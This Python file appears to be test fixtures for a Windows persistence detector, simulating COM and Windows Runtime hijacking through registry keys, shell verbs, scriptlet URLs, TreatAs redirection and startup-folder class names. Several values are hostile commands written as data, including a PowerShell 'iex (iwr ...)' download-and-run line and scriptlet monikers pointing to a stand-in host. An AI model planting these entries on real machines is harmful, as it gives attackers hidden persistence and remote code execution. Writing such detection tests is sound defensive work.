"""Classes of COM, of the Windows Runtime, and what names them. WbemLocator is made by nearly every service."""
from windows_disk import *

change = Changes()
START = 'WIN-PERSIST-001'
KNOWN, OWN = '{4590F811-1D3A-11D0-891F-00AA004B2E24}', '{DEADBEEF-1111-2222-3333-444455556666}'
KEY = rf'Classes\CLSID\{KNOWN}'
SYSTEM32 = r'Windows\System32'


def machine(name, why, place, *values, files=(), windows=(), key=KEY):
    """Values below the key of a class of the machine: (key below it, value, text)."""
    def make(d):
        for path in files:
            d.foreign(path)
        d.windows(*windows)
        for sub, value, text in values:
            d.software(rf'{key}{sub}', value, SZ, text)
    change.row(name, why, START, place, make)


machine('verb-of-a-folder', 'The word Manage of This PC starts the command of its verb.', 'x.exe', ('', '', r'C:\ProgramData\x\x.exe'),
        files=[r'ProgramData\x\x.exe'], key=r'Classes\CLSID\{20D04FE0-3AEA-1069-A2D8-08002B30309D}\shell\Manage\command')
machine('verb-of-a-type', 'Who opens such a file starts the command.', 'x.exe', ('', '', r'C:\ProgramData\x\x.exe "%1"'),
        files=[r'ProgramData\x\x.exe'], key=r'Classes\RDP.File\shell\open\command')
machine('code-in-the-verb-of-a-type', 'A signed host carries out what stands in the command.', 'RDP.File', ('', '', 'powershell.exe -c "iex (iwr http://203.0.113.7/a)"'),
        windows=[r'WindowsPowerShell\v1.0\powershell.exe'], key=r'Classes\RDP.File\shell\connect\command')
machine('class-in-system32', 'The folder of a library says nothing of it.', 'wbemsvcx.dll', (r'\InprocServer32', '', r'%SystemRoot%\System32\wbemsvcx.dll'),
        files=[rf'{SYSTEM32}\wbemsvcx.dll'])
machine('class-of-32-bits', 'For a program of 32 bits System32 is SysWOW64.', 'zz.dll', (r'\InprocServer32', '', r'C:\Windows\System32\zz.dll'),
        files=[r'Windows\SysWOW64\zz.dll'], key=rf'Classes\Wow6432Node\CLSID\{KNOWN}')
machine('class-in-a-folder-of-sounds', 'It lies below Windows, and no part of Windows.', 'zz.dll', (r'\InprocServer32', '', r'C:\Windows\Media\zz.dll'),
        files=[r'Windows\Media\zz.dll'])
machine('class-that-is-a-command', 'LocalServer32 is a command line.', 'powershell', (r'\LocalServer32', '',
        r'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc SQBFAFgA'), windows=[r'WindowsPowerShell\v1.0\powershell.exe'])
machine('server-that-is-told-a-file', 'What a signed server is told beside switches is what it acts on.', 'Zz config', (r'\LocalServer32', '',
        r'C:\Windows\System32\zzserver.exe Zz config.bin'), windows=['zzserver.exe'])
machine('class-of-a-scriptlet', 'scrobj.dll of Windows carries out what ScriptletURL names.', 'ScriptletURL', (r'\InprocServer32', '',
        r'C:\Windows\System32\scrobj.dll'), (r'\ScriptletURL', '', 'http://203.0.113.7/a.sct'), windows=['scrobj.dll'])
machine('class-of-an-assembly', 'mscoree.dll of Windows loads the assembly that the class names.', 'Evil.dll', (r'\InprocServer32', '',
        r'C:\Windows\System32\mscoree.dll'), (r'\InprocServer32', 'Assembly', 'Evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef'),
        files=[r'Windows\Microsoft.NET\assembly\GAC_MSIL\Evil\v4.0_1.0.0.0__0123456789abcdef\Evil.dll'], windows=['mscoree.dll'])
machine('other-program-of-a-class', 'ServerExecutable comes before the command line.', 'zz.exe', (r'\LocalServer32', 'ServerExecutable', r'C:\Tools\zz.exe'),
        files=[r'Tools\zz.exe'])
machine('types-that-are-a-script', 'A path that is no library of types is taken for a moniker.', 'win64', ('', '', r'script:C:\ProgramData\x\x.sct'),
        key=r'Classes\TypeLib\{EAB22AC0-30C1-11CF-A7EB-0000C05BAE0B}\1.1\0\win64')
machine('service-that-is-told-more', 'ServiceParameters are what the service of a class is started with.', 'ServiceParameters',
        ('', 'LocalService', 'Winmgmt'), ('', 'ServiceParameters', r'\\203.0.113.7\x'), key=rf'Classes\AppID\{OWN}')
machine('subscription-of-a-moniker', 'The event system makes what the moniker names.', 'SubscriberMoniker', ('', 'SubscriberMoniker', 'script:http://203.0.113.7/a.sct'),
        key=rf'Microsoft\EventSystem\{{26c409cc-ae86-11d1-b616-00805fc79216}}\Subscriptions\{OWN}')
machine('server-of-the-runtime', 'ExePath is the program that serves classes of the Windows Runtime.', 'x.exe', ('', 'ExePath', r'C:\ProgramData\x\x.exe'),
        files=[r'ProgramData\x\x.exe'], key=r'Microsoft\WindowsRuntime\Server\Zz.Server')


def own(d):
    d.foreign(rf'{SYSTEM32}\zz.dll')
    d.com(OWN, r'%SystemRoot%\System32\zz.dll')


@change(START, 'Startup')
def folder_of_a_class_at_the_logon(d):
    """A folder whose name ends in a class stands for it: Explorer makes the class."""
    own(d)
    d.folder(rf'ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\a.{OWN}')


@change(START, 'desktop.ini')
def class_of_the_desktop(d):
    """The description of a folder names a class that Explorer makes."""
    own(d)
    d.put(r'Users\Administrator\Desktop\desktop.ini', f'[.ShellClassInfo]\r\nCLSID={OWN}\r\n')


@change(START, 'zz.dll')
def class_in_place_of_another(d):
    """TreatAs leads from a class that everybody makes to another."""
    own(d)
    d.software(rf'{KEY}\TreatAs', '', SZ, OWN)
